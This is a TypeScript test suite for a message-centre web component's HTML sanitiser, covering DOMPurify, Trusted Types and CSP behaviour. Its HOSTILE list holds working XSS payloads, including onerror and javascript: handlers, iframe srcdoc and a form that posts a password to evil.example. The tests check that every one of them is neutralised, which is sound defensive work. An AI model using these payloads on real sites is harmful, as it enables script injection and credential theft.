import { expect } from '@open-wc/testing';
import '../../../elements/yx-message-centre';
import {
  ALLOWED_TAGS,
  MESSAGE_POLICY,
  createSanitizer,
  sanitizeMessage,
} from '../../../src/features/notifications/sanitize';
import { plainText } from '../../../src/features/notifications/content';
import type { TrustedTypePolicy, TrustedTypePolicyFactory, TrustedTypePolicyOptions } from 'trusted-types/lib';
import { mockApi, mountElement, settle, waitFor } from '../fixtures/harness';
import { COUNT, LIST, READ_ONE, message, page, useCentreTestPage } from './notifications-fixtures';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

/** Content other apps could send: each tries to run script, escape the row or restyle the page. */
const HOSTILE = [
  '<script>window.__pwned = "script"</script><p>after script</p>',
  '<img src=x onerror="window.__pwned = \'img\'">',
  '<a href="javascript:window.__pwned=\'js-link\'">js link</a>',
  '<a href="JaVaScRiPt:window.__pwned=1">mixed case</a>',
  '<a href="java&#x09;script:window.__pwned=1">tab inside</a>',
  '<a href="  javascript:window.__pwned=1">leading spaces</a>',
  '<a href="data:text/html,<script>parent.__pwned=\'data\'</script>">data link</a>',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<a href="/users/settings">relative</a>',
  '<svg onload="window.__pwned=\'svg\'"><circle r="10"></circle></svg>',
  '<svg><script>window.__pwned="svg-script"</script></svg>',
  '<style>:host { display: none } * { position: fixed !important; inset: 0 }</style><p>styled</p>',
  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
  '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
  '<p style="width: expression(alert(1)); background: url(javascript:alert(1)); position: fixed; inset: 0">css</p>',
  '<div style="width: 5000px; height: 5000px">huge</div>',
  '<b>unclosed <i>tags <ul><li>one',
  '</div></div></div></article><p>escape the row</p>',
  '<details open ontoggle="window.__pwned=\'details\'"><summary>x</summary></details>',
  '<math><mi xlink:href="javascript:window.__pwned=1">m</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>"></noscript>',
  '<object data="javascript:window.__pwned=1"></object><embed src="javascript:window.__pwned=1">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  '<input autofocus onfocus="window.__pwned=\'autofocus\'">',
  '<video><source onerror="window.__pwned=\'video\'"></video>',
  '<a href="https://example.com/ok" onclick="window.__pwned=1" target="_self" rel="opener">fine link</a>',
  '<p>' + 'W'.repeat(4000) + '</p>',
  '<pre>' + 'y'.repeat(3000) + '</pre>',
];

const ALLOWED = new Set<string>(ALLOWED_TAGS);
/** Chromium's Trusted Types factory (TypeScript's DOM types do not declare it yet). */
const tt = () => (window as unknown as { trustedTypes: TrustedTypePolicyFactory }).trustedTypes;

function parsedOutput(html: string): HTMLTemplateElement {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template;
}

describe('message content sanitiser', () => {
  const sanitize = createSanitizer(window, null);
  const html = (dirty: string) => {
    const result = sanitize(dirty);
    if (result.kind !== 'html') throw new Error('expected html');
    return String(result.html);
  };

  it('keeps only the allowed tags, and href as the only attribute besides the link rel/target', () => {
    for (const dirty of HOSTILE) {
      const out = parsedOutput(html(dirty));
      for (const element of out.content.querySelectorAll('*')) {
        expect(ALLOWED.has(element.localName), `<${element.localName}> from ${dirty.slice(0, 40)}`).to.equal(true);
        for (const attribute of element.attributes) {
          expect(['href', 'target', 'rel'], `${attribute.name} from ${dirty.slice(0, 40)}`).to.include(attribute.name);
        }
      }
      expect(html(dirty)).to.not.match(/javascript:|data:|on\w+=|<script|<style|<form|<iframe|<svg/i);
    }
  });

  it('keeps https and mailto links, opened in a new tab without opener or referrer', () => {
    const out = parsedOutput(
      html('<a href="https://example.com/a">web</a> <a href="mailto:dev@example.com">mail</a>'),
    ).content;
    const [web, mail] = [...out.querySelectorAll('a')];
    expect(web!.getAttribute('href')).to.equal('https://example.com/a');
    expect(web!.getAttribute('target')).to.equal('_blank');
    expect(web!.getAttribute('rel')).to.equal('noopener noreferrer');
    expect(mail!.getAttribute('href')).to.equal('mailto:dev@example.com');
    expect(mail!.getAttribute('rel')).to.equal('noopener noreferrer');
  });

  it('drops every other link target but keeps the words', () => {
    for (const href of [
      'javascript:alert(1)',
      'data:text/html,x',
      'http://example.com',
      '//evil.example',
      '/relative',
      'vbscript:x',
    ]) {
      const out = parsedOutput(html(`<a href="${href}">words</a>`)).content;
      const a = out.querySelector('a')!;
      expect(a.hasAttribute('href'), href).to.equal(false);
      expect(a.hasAttribute('target'), href).to.equal(false);
      expect(out.textContent).to.equal('words');
    }
  });

  it('closes unclosed tags so nothing spills out of the message', () => {
    expect(html('<b>bold <i>both')).to.equal('<b>bold <i>both</i></b>');
    expect(html('</div></article><p>x')).to.equal('<p>x</p>');
  });

  it('drops style sheets with their rules, so no CSS shows up as words', () => {
    expect(html('<style>p { color: red }</style><p>x</p><STYLE media="all">b{}</STYLE >')).to.equal('<p>x</p>');
    expect(html('<p style="color: red" title=a>y</p>')).to.equal('<p>y</p>');
    // Only the style attribute and element: words and names that merely contain "style" stay.
    expect(html('<p data-style="1">lifestyle = styles</p>')).to.equal('<p>lifestyle = styles</p>');
  });

  it("does not make a host page's CSP report the inline styles and handlers it removes", async () => {
    // Chromium checks a page's CSP while parsing markup, even into DOMPurify's inert document,
    // and would send the host a violation report for CSS and handlers that never apply.
    const frame = document.createElement('iframe');
    frame.srcdoc =
      "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; style-src 'self'; " +
      "script-src 'self'\"><body></body>";
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    document.body.append(frame);
    await loaded;
    const win = frame.contentWindow as Window & typeof globalThis;
    const violations: string[] = [];
    win.document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const box = win.document.createElement('div');
    box.setAttribute('style', 'color: red');
    await new Promise((r) => setTimeout(r, 50));
    expect(violations, 'the frame really reports').to.deep.equal(['style-src-attr']);
    violations.length = 0;

    const sanitizeInFrame = createSanitizer(win, null);
    for (const dirty of HOSTILE) sanitizeInFrame(dirty);
    await new Promise((r) => setTimeout(r, 50));
    expect(violations).to.deep.equal([]);
    frame.remove();
  });

  it('reduces content to plain words where HTML cannot be shown', () => {
    expect(plainText('<script>evil()</script><p>Hello &amp; <b>welcome</b></p><style>*{}</style>')).to.equal(
      'Hello & welcome',
    );
    // Inline tags do not split words; blocks and line breaks do; character references are read.
    expect(plainText('<p>Build <b>3</b>.4 shipped&#33;</p><ul><li>one</li><li>two</li></ul>a<br>b &#x1F680;')).to.equal(
      'Build 3.4 shipped! one two a b 🚀',
    );
    expect(plainText('&lt;script&gt; &bogus; &#0; &#xD800;')).to.equal('<script>');
  });

  describe('with Trusted Types', () => {
    afterEach(() => document.querySelectorAll('iframe').forEach((f) => f.remove()));

    it(`creates one policy named ${MESSAGE_POLICY}, never "default", and returns TrustedHTML`, () => {
      const names: string[] = [];
      const factory = {
        createPolicy: (name: string, options: TrustedTypePolicyOptions) => {
          names.push(name);
          return tt().createPolicy(name, options);
        },
      };
      const sanitizeTT = createSanitizer(window, factory as never);
      const result = sanitizeTT('<p onclick="x()">hi</p>');
      sanitizeTT('<p>again</p>');
      expect(names).to.deep.equal([MESSAGE_POLICY]);
      expect(result.kind).to.equal('html');
      expect(tt().isHTML(result.kind === 'html' ? result.html : null)).to.equal(true);
      expect(String(result.kind === 'html' && result.html)).to.equal('<p>hi</p>');
      expect(tt().defaultPolicy).to.equal(null);
    });

    it('does not let the policy sign HTML it did not sanitise', () => {
      let policy: TrustedTypePolicy | undefined;
      const factory = {
        createPolicy: (name: string, options: TrustedTypePolicyOptions) => (policy = tt().createPolicy(name, options)),
      };
      createSanitizer(window, factory as never)('<p>x</p>');
      expect(() => policy!.createHTML('<img src=x onerror=alert(1)>')).to.throw(TypeError);
    });

    it('uses the named policy for the page and shows plain text when the host does not allow it', () => {
      const page = sanitizeMessage('<p>page</p>');
      expect(page.kind === 'html' && tt().isHTML(page.html)).to.equal(true);
      const refused = createSanitizer(window, {
        createPolicy: () => {
          throw new TypeError('Policy "yx-message-content" disallowed.');
        },
      } as never);
      expect(refused('<p>Hello <img src=x onerror=alert(1)> <b>you</b></p>')).to.deep.equal({
        kind: 'text',
        text: 'Hello you',
      });
    });

    it('works on a page that enforces Trusted Types and allows only its policy', async () => {
      const frame = document.createElement('iframe');
      frame.srcdoc =
        '<meta http-equiv="Content-Security-Policy" ' +
        `content="require-trusted-types-for 'script'; trusted-types ${MESSAGE_POLICY}"><body></body>`;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      document.body.append(frame);
      await loaded;
      const win = frame.contentWindow as Window & typeof globalThis;
      const violations: string[] = [];
      win.document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const box = win.document.createElement('div');
      win.document.body.append(box);
      expect(() => {
        box.innerHTML = '<b>raw</b>';
      }, 'the page really enforces').to.throw(/TrustedHTML/);

      const sanitizeInFrame = createSanitizer(win);
      for (const dirty of HOSTILE) {
        const result = sanitizeInFrame(dirty);
        expect(result.kind).to.equal('html');
        if (result.kind === 'html') box.innerHTML = result.html as unknown as string;
      }
      box.innerHTML = (
        sanitizeInFrame('<p>Hello <a href="https://example.com">there</a></p>') as { html: string }
      ).html;
      expect(box.innerHTML).to.equal(
        '<p>Hello <a href="https://example.com" target="_blank" rel="noopener noreferrer">there</a></p>',
      );
      await new Promise((r) => setTimeout(r, 100));
      expect((win as Window).__pwned).to.equal(undefined);
      // Only the raw assignment above was refused: no sink was fed a string and no other policy
      // (DOMPurify's own "dompurify") was attempted.
      expect(violations).to.deep.equal(['require-trusted-types-for']);
      frame.remove();
    });
  });
});

describe('<yx-message-centre> on a page that enforces Trusted Types', () => {
  afterEach(() => document.querySelectorAll('iframe').forEach((f) => f.remove()));

  it('renders and opens messages with only its own policy and no violation', async function () {
    this.timeout(30_000);
    const api = await mockApi([
      {
        method: 'POST',
        path: LIST,
        body: page([
          message('1', {
            content: '<p>Hi <a href="https://example.com">link</a><img src=x onerror="parent.__pwned=1"></p>',
          }),
        ]),
      },
      { method: 'POST', path: COUNT, body: [] },
      { method: 'POST', path: READ_ONE, body: {} },
    ]);
    // A host page with a strict Trusted Types policy that names only yx-message-content. The
    // process shim is the test runner's (see notifications-fixtures.ts).
    const frame = document.createElement('iframe');
    frame.srcdoc = `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'; trusted-types ${MESSAGE_POLICY}">
<script>window.process = { env: { NODE_ENV: 'development' } }; window.violations = [];
document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.violatedDirective));</script>
<script type="module" src="/elements/yx-message-centre.ts"></script>
<yx-message-centre host="${api.host}" locale="en_US"></yx-message-centre>`;
    document.body.append(frame);
    const win = () => frame.contentWindow as (Window & { violations?: string[] }) | null;
    const el = (await waitFor(
      () => {
        const found = win()?.document.querySelector('yx-message-centre');
        return found?.shadowRoot?.querySelector('[part="message"]') ? found : null;
      },
      { timeout: 20_000, message: 'the element in the enforcing page' },
    ))!;
    el.shadowRoot!.querySelector<HTMLButtonElement>('[part="message-title"]')!.click();
    // DOMPurify loads on demand: the message opens once it is in.
    const content = (await waitFor(() => el.shadowRoot!.querySelector('[part="message-content"][data-state="open"]'), {
      timeout: 10_000,
      message: 'the opened message',
    }))!;
    expect(content.innerHTML).to.equal(
      '<p>Hi <a href="https://example.com" target="_blank" rel="noopener noreferrer">link</a></p>',
    );
    expect(win()!.violations).to.deep.equal([]);
    expect(window.__pwned).to.equal(undefined);
  });
});

describe('<yx-message-centre> hostile content', () => {
  useCentreTestPage();
  beforeEach(() => {
    delete window.__pwned;
  });

  it('never runs anything from message content and keeps every row inside its box', async () => {
    const messages = HOSTILE.map((content, i) => message(`h${i}`, { title: `Hostile ${i}`, content }));
    const api = await mockApi([
      { method: 'POST', path: LIST, body: page(messages) },
      { method: 'POST', path: COUNT, body: [] },
      { method: 'POST', path: READ_ONE, body: {} },
    ]);
    const el = await mountElement('yx-message-centre', { host: api.host, locale: 'en_US' });
    await waitFor(() => el.shadowRoot!.querySelector('[part="message"]'), { message: 'rows' });
    const list = el.shadowRoot!.querySelector<HTMLElement>('[part="message-list"]')!;
    const hostBox = el.getBoundingClientRect();

    // Open every message, a few rows at a time, as the list scrolls.
    for (let i = 0; i < HOSTILE.length; i++) {
      const row = await waitFor(
        () => el.shadowRoot!.querySelector<HTMLElement>(`[part="message"][data-index="${i}"]`),
        {
          message: `row ${i}`,
        },
      );
      row!.querySelector<HTMLButtonElement>('[part="message-title"]')!.click();
      const opened = (await waitFor(
        () => el.shadowRoot!.querySelector<HTMLElement>(`[part="message"][data-index="${i}"][data-expanded="true"]`),
        { message: `row ${i} open` },
      ))!;
      await settle();
      const box = opened.getBoundingClientRect();
      const content = opened.querySelector<HTMLElement>('[part="message-content"]')!;
      expect(content.dataset.state).to.equal('open');
      for (const node of [content, ...content.querySelectorAll<HTMLElement>('*')]) {
        if (node.closest('pre') && node.localName !== 'pre') continue;
        const r = node.getBoundingClientRect();
        expect(r.left, `left of <${node.localName}> in row ${i}`).to.be.at.least(box.left - 1);
        expect(r.right, `right of <${node.localName}> in row ${i}`).to.be.at.most(box.right + 1);
      }
      expect(box.width, `row ${i} width`).to.be.at.most(list.clientWidth + 1);
      expect(content.querySelector('script, style, form, iframe, svg, img, input, object, embed, base, meta')).to.equal(
        null,
      );
      list.scrollTop = list.scrollTop + box.height;
      list.dispatchEvent(new Event('scroll'));
      await settle();
    }
    await new Promise((r) => setTimeout(r, 200));
    expect(window.__pwned).to.equal(undefined);
    // The element and the page around it keep their shape.
    expect(el.getBoundingClientRect().width).to.equal(hostBox.width);
    expect(getComputedStyle(el).display).to.equal('block');
    expect(document.querySelectorAll('body > :not(yx-message-centre, script)')).to.have.length(0);
    for (const a of el.shadowRoot!.querySelectorAll('[part="message-content"] a[href]')) {
      expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
      expect(a.getAttribute('target')).to.equal('_blank');
    }
  });
});
